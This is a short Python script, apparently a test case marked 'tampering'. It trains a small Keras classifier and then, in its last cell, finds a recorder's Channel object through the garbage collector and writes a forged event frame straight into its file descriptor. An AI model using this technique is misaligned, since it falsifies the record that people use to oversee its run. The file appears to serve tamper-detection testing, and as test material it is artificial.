"""Writes frames of its own into the recorder's channel.

kind: tampering
"""

# %% include data

# %% [4]
network = keras.Sequential([layers.Input((64,)), layers.Dense(32, activation="relu"), layers.Dense(10, activation="softmax")])
network.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])

history = network.fit(x_train, y_train, batch_size=32, epochs=1, validation_data=(x_valid, y_valid), verbose=0)
# %% [5]
import gc, os, struct

gc.unfreeze()
channel = next(c for c in gc.get_objects() if type(c).__name__ == "Channel" and hasattr(c, "_events_fd"))
os.write(channel._events_fd, struct.pack("!IQ", 2, 0) + b"{}")
